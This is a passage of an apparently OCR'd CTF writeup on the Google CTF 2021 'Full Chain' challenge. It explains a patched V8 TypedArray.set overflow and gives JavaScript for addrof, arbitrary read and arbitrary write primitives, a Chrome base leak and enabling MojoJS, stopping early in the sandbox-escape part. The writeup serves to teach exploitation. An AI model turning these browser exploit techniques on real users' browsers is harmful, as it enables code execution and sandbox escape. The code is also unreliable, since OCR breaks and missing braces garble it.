From JavaScript to Kernel - Google CTF 2021 Quals "Full Chain" Writeup

I played Google CTF 2021 Quals in zer0pts and I worked on several tasks. In the 6 pwnable challenges I solved during the CTF I liked "Full Chain" the most. This challenge consists of 3 parts: browser exploitation, sandbox escape, and privilege escalation. Each part is very educational and is good for the introduction to each of the fields.

The full exploits are available on my repository.

Browser Exploitation

The first one is the browser exploitation part. The target browser is the latest Google Chrome with some modifications made to the code. Before getting into the details about browser exploitation, I'm going to briefly explain about the basics.There are 2 kinds of processes in Chromium: renderer and browser.

A browser is dangerous. It accepts any HTML, CSS, or JavaScript from the server, interprets, renders, and executes them. The attackers can also serve some resources and let the visitors execute them. Especially JavaScript is a good target for compromising the browser. The attackers usually cannot execute some system binaries or access the local files because JavaScript is designed to be secure. The JavaScript engine of Chromium is called V8. However, some vulnerabilities in the JavaScript engine allow them to run arbitrary (machine) code due to the flaw. As virtually everyone uses the browser, the impact of the vulnerability is enormous.

To prevent the attackers from executing commands or accessing the local files, most of the modern browsers have some sandbox feature. The dangerous part of the browser (JavaScript engine, HTML parser, and so on) executes on the sandboxed process (the renderer process) and the core part (networking, cookie manager, and so on) executes on the unsandboxed process (the browser process).

When we run the browser, there exists one browser process and multiple renderer processes. A renderer process is created for a frame such as a browser tab or iframe. Every renderer process communicates with the browser process using IPC (Inter-Process Communication). Chromium uses an IPC scheme called Mojo. We need to exploit the browser process through Mojo in many cases if we want to escape the sandbox.

You can check the official documentation for more details about Mojo.

Is Exploiting the Renderer Necessary?

The first part of the challenge is about exploiting the JavaScript engine running on the renderer process. We cannot execute any commands even if we compromise the renderer process because ofthe sandbox. On the other hand, the second part of the challenge is about escaping the sandbox, by which we can execute any commands through JavaScript. So, why do we have to write the exploit for the renderer process?

The vulnerability for the sandbox escape lies in the browser process. As I explained, we have to use Mojo to exploit this vulnerability. Mojo, however, is not exposed to JavaScript by default. We can enable Mojo by modifying a flag (flipping a bit) in the JavaScript engine. This is why we need to exploit the renderer process before exploiting the browser process.

Patch Analysis

The patch of the JavaScript engine is tiny:

diff --git a/src/builtins/typed-array-set.tq b/src/builtins/typed-array-set.tq
index b5c9dcb261..ac5ebe9913 100644
--- a/src/builtins/typed-array-set.tq
+++b/src/builtins/typed-array-set.tq
@@ -198,7 +198,7 @@ TypedArrayPrototypeSetTypedArray(implicit context: Context, receiver: JSAny)(
   if (targetOffsetOverflowed) goto IfOffsetOutOfBounds;
   // 9. Let targetLength be target.[[ArrayLength]].
-  const targetLength = target.length;
+  // const targetLength = target.length;
   // 19. Let srcLength be typedArray.[[ArrayLength]].
   const srcLength: uintptr = typedArray.length;
@@ -207,8 +207,8 @@ TypedArrayPrototypeSetTypedArray(implicit context: Context, receiver: JSAny)(
   // 21. If srcLength + targetOffset > targetLength, throw a RangeError
   //   exception.
-CheckIntegerIndexAdditionOverflow(srcLength, targetOffset, targetLength)
-      otherwise IfOffsetOutOfBounds;
+  // CheckIntegerIndexAdditionOverflow(srcLength, targetOffset, targetLength)
+  //     otherwise IfOffsetOutOfBounds;
   // 12. Let targetName be theString value of target.[[TypedArrayName]].
   // 13. Let targetType be the Element Type value in Table 62 for

Only 3 lines in TypedArrayPrototypeSetTypedArray are removed.

This is a "Torque" code. The V8 engine uses a language named Torque to define the behavior of the built-in functions in JavaScript. The function above, as the name suggests, defines the behavior of TypedArray.prototype.set(TypedArray, ...). So, the change affects to Uint8Array, Uint32Array, Float64Array, and so on.

The bug is pretty obvious. CheckIntegerIndexAdditionOverflow is removed from the code, meaning the buffer may overflow in the set method of a typed array. Let's write a proof-of-concept.

let x = new Uint32Array(8);
let y = new Uint32Array(8);
x.set(y, 4);

The PoC causes a crash.

Received signal 11 SEGV_ACCERR 1e4108020ffc
#0 0x55555bb395c9 base::debug::CollectStackTrace()
#1 0x55555baa4763 base::debug::StackTrace::StackTrace()
#2 0x55555bb390f1 base::debug::(anonymous namespace)::StackDumpSignalHandler()
#3 0x7ffff7f903c0 (/usr/lib/x86_64-linux-gnu/libpthread-2.31.so+0x153bf)
#4 0x1e41000ac78c <unknown>
  r8: 0000000000000000  r9: fffffffffffd5997 r10: 00002a6c002a6259 r11: 0000000000000000
 r12: 00001e410804b664 r13: 00002a6c00520000 r14: 00001e4100000000 r15: 00001e41082278b5
  di: 00001e410804b665  si: 00001e4108226c45  bp: 00007fffffffb5c0  bx: 0000000000000000
  dx: 0000000000000000  ax: 00001e410804b545  cx: 00001e41080023b5  sp: 00007fffffffb598
  ip: 00001e41000ac78c efl: 0000000000010282 cgf: 002b000000000033 erf: 0000000000000007
 trp: 000000000000000e msk: 0000000000000000 cr2: 00001e4108020ffc
[end of stack trace]

We defined two Uint32Arrays with 8 elements. x.set(y, 4); is trying to copy y into x from the 5th element of x. We can only copy 4 elements but the bug allows us to overwrite the buffer.


Using the bug, we're going to create some "primitives" to makethe exploit easy. I prefer to use the bug as few times as possible*1.

The bug above is Out-of-Bounds (OOB) write. We can write arbitrary values to some specific offsets.

Addrof Primitive

The first thing to create is "addrof" primitive. This is a function that returns the address of a given JavaScript object. We're going to make this primitive because we need at least oneaddress for the exploit.

I have OOB write and I'm going to turn it into OOB read/write. This is easy because we can simply overwrite the length field of an array object.

let y = new Uint32Array(1);
let x = new Uint32Array(1);
let oob_double = [1.1, 1.1, 1.1, 1.1];
y.set([2222], 0);
x.set(y, 33);In the code above, x.set(y, 33); overwrites the length of oob_double. (You can easily find the offset in gdb.) This results in making the length of oob_double 1111*2.

Now, we have OOB read/write on oob_double. We can read some values on the memory, including some pointers, as float values.

We justneed to prepare the target object to leak after the oob_double and read the pointer by OOB read.

function make_primitives() {
    let evil   = new Uint32Array(1);
    let victim = new Uint32Array(1);
    let oob_double = [1.1, 1.1, 1.1, 1.1];
    let arr_addrof = [{}];
    evil.set([0x8888], 0);
    victim.set(evil, 33);
    console.log("[+] oob_double.length = " +oob_double.length);
    return [oob_double, arr_addrof];

function addrof(obj) {
    arr_addrof[0] = obj;
    return (oob_double[7].f2i() >> 32n) - 1n;

let [oob_double, arr_addrof] = make_primitives();

let target = {};

Be careful the hardcoded offset values may change as you develop the exploit but you can easily find it in gdb. The PoC above outputs somethinglike the following.

0x120e0804b9d1 <Object map = 0x120e08246101>
[0726/092053.410523:INFO:CONSOLE(26)] "[+] oob_double.length = 17476", source: file:///home/ptr/google/writeup/poc.js (26)
[0726/092053.410716:INFO:CONSOLE(39)] "0x8246100", source: file:///home/ptr/google/writeup/poc.js (39)

In the recent version of V8, 64-bit pointers are compressed into 32-bit and that's why the leaked address looks like 32-bit.

Leaking the High PointerThe pointer compression is somewhat troublesome to make AAR/AAW primitives. Sometimes you want to know the full address of the JavaScript objects.

TypedArray is a special object in that it has a full address of the buffer*3. We can get the upper 32-bit address of the JSObjects by reading the full address of a typed array.

let heap_upper = oob_double[28].f2i() & 0xffffffff00000000n;
console.log("[+] heap_upper = " + heap_upper.hex());

AAR/AAW Primitive

As I explained, a typed array has the full address to the buffer. We can overwrite this address to make arbitrary-address-read (AAR) primitive.

function aar64(addr) {
    oob_double[28] = ((addr & 0xffffffff00000000n) | 7n).i2f();
    oob_double[29] = (((addr - 8n) | 1n) & 0xffffffffn).i2f();
    return www_double[0].f2i();

Arbitrary-address-write (AAW) can be achieved in the very same way.

function aaw64(addr, value) {
    oob_double[28] = ((addr & 0xffffffff00000000n) | 7n).i2f();
    oob_double[29] = (((addr - 8n) | 1n) & 0xffffffffn).i2f();www_double[0] = value.i2f();

Enabling Mojo

Our goal is to enable Mojo rather than execute a shellcode.

Chromium has various flags and one of them is is_mojo_js_enabled_. This boolean variable can be located at the chrome binary. So, we have to leak the address of the chrome binary.

There are many ways to leak the textbase but I chose HTMLDivElement. A div object has a pointer to the instance of a class named HTMLDivElement. This is data in the chrome binary and so we can calculate the base address of the chrome.

/* Leak chrome base */
let div = document.createElement('div');
let addr_div = heap_upper | addrof(div);
console.log("[+] addr_div = " + addr_div.hex());
let addr_HTMLDivElement = aar64(addr_div + 0xCn);
console.log("[+] <HTMLDivElement> = " + addr_HTMLDivElement.hex());
letchrome_base = addr_HTMLDivElement - 0xc1bb7c0n;
console.log("[+] chrome_base = " + chrome_base.hex());

Now, enabling Mojo is easy. We can simply flip the bit of is_mojo_js_enabled_ by using the AAW primitive.

/* Enable MojoJS */
console.log("[+] Overwriting flags..");
let addr_flag_MojoJS = chrome_base + 0xc560f0en;
let addr_flag_MojoJSTest = chrome_base + 0xc560f0fn;
aaw64(addr_flag_MojoJS & 0xfffffffffffffff8n, 0x0101010101010101n);
aaw64(addr_flag_MojoJSTest &0xfffffffffffffff8n, 0x0101010101010101n);

In the code above I also change the flag named is_mojo_js_test_enabled_, which is useful for writing some browser exploitation (especially race) but eventually I didn't use it.

Calm Down GC

We have to reload the page to enable Mojo. However, reloading the page frees the JavaScript objects we made. These objects no longer get tracked by the garbage collector.

This is a huge problem. We overwrote some pointers to some invalid addresses. The garbage collector tries to free the invalid address and crashes. So, we need to clean up the objects we messed up before the garbage collector gets angry.

The pointer we overwrote is only the AAR/AAW array. I saved the original pointer and restored it before redirecting the page.

    let original_28 = oob_double[28];
    let original_29 = oob_double[29];
    function cleanup() {
        oob_double[28] = original_28;
        oob_double[29] = original_29;
    /* Cleanup */
    window.location.href = "/sbx_exploit.html";

Sandbox Escape

The second part is the sandbox escape.

Patch Analysis

The patch for the browser exploit is a bit big. This time the patch implements a new feature rather than introduces the bug to an existing function.

The patch implements a Mojo interface named CtfInterface.

interface CtfInterface {
  ResizeVector(uint32 size) => ();
  Read(uint32 offset) => (double value);
  Write(double value, uint32 offset) => ();

We can allocate a vector with arbitrary size.

void CtfInterfaceImpl::ResizeVector(uint32_t size,
